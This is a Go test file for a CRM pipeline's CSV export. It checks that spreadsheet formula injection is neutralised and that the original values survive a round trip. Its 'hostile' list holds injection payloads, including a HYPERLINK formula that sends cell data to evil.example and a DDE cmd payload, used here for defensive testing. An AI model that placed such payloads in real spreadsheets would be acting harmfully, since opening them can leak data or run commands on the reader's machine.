package pipeline_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dealmark/dealmark/internal/crm"
	"github.com/dealmark/dealmark/internal/index"
	"github.com/dealmark/dealmark/internal/pipeline"
)

func link(id crm.OpportunityID) string { return "https://app.example/#/" + string(id) }

func TestCSV(t *testing.T) {
	p := newPipeline()
	golden(t, "pipeline.csv", pipeline.BOM+pipeline.Header+p.CSV(p.Find(pipeline.Query{}), link))
}

// hostile are names that a spreadsheet would calculate, and what breaks a
// careless writer.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`, `=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
	"'=1", "''=1", "'", "''", "'plain", `a "quoted" name`, `"`, `""`, "a,b", ",", "two\nlines", "two\r\nlines", "", " ", " =1", "\x00", "\u202e=1", "müller", "日本", "\ufeff",
}

// read reads RFC 4180: unlike package encoding/csv it leaves line ends within
// quotes as they are.
func read(t *testing.T, text string) (records [][]string) {
	t.Helper()
	var record []string
	for text != "" {
		var cell string
		if rest, quoted := strings.CutPrefix(text, `"`); quoted {
			for {
				end := strings.IndexByte(rest, '"')
				require.GreaterOrEqual(t, end, 0, "a quote without its end")
				cell, rest = cell+rest[:end], rest[end+1:]
				if !strings.HasPrefix(rest, `"`) {
					break
				}
				cell, rest = cell+`"`, rest[1:]
			}
			text = rest
		} else {
			end := strings.IndexAny(text, ",\r\n\"")
			require.GreaterOrEqual(t, end, 0, "a record without its end")
			cell, text = text[:end], text[end:]
		}
		record = append(record, cell)
		var ends bool
		if text, ends = strings.CutPrefix(text, "\r\n"); ends {
			records, record = append(records, record), nil
			continue
		}
		require.True(t, strings.HasPrefix(text, ","), "after a cell: %q", text)
		text = text[1:]
	}
	require.Nil(t, record)
	return records
}

func calculated(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0])
}

func TestWhatIsHostileIsReadBackAsItWas(t *testing.T) {
	var all index.Everything
	var list []crm.Opportunity
	all.Companies = map[crm.AccountID]string{}
	all.Team = team
	for n, name := range hostile {
		o := deal{name: name, company: n + 1}.opportunity(n)
		o.StageName = name
		all.Companies[o.AccountID] = name
		all.Team.Users = append(all.Team.Users[:len(all.Team.Users):len(all.Team.Users)], crm.User{ID: id[crm.UserID](100 + n), Name: name})
		o.OwnerID = id[crm.UserID](100 + n)
		list = append(list, o)
	}
	all.List = listOf(list...)
	p := pipeline.New(all)
	rows := p.Find(pipeline.Query{Sort: pipeline.ByCreated})
	text := p.CSV(rows, link)
	records := read(t, text)
	require.Len(t, records, len(hostile))
	for n, record := range records {
		require.Len(t, record, strings.Count(pipeline.Header, ",")+1)
		for _, column := range []int{0, 1, 2, 7} {
			assert.False(t, calculated(record[column]), "%q", record[column])
			assert.Equal(t, hostile[n], pipeline.Restored(record[column]), "column %d", column)
		}
	}
	again, err := csv.NewReader(strings.NewReader(pipeline.Header + text)).ReadAll()
	require.NoError(t, err, "another reader of RFC 4180")
	assert.Len(t, again, len(hostile)+1)
}

func FuzzCSV(f *testing.F) {
	for _, name := range hostile {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, name string) {
		assert.Equal(t, name, pipeline.Restored(pipeline.Defused(name)))
		assert.False(t, calculated(pipeline.Defused(name)))
		p := pipeline.New(index.Everything{List: listOf(deal{name: name}.opportunity(1))})
		records := read(t, p.CSV(p.Find(pipeline.Query{}), link))
		require.Len(t, records, 1)
		assert.Equal(t, name, pipeline.Restored(records[0][0]))
	})
}
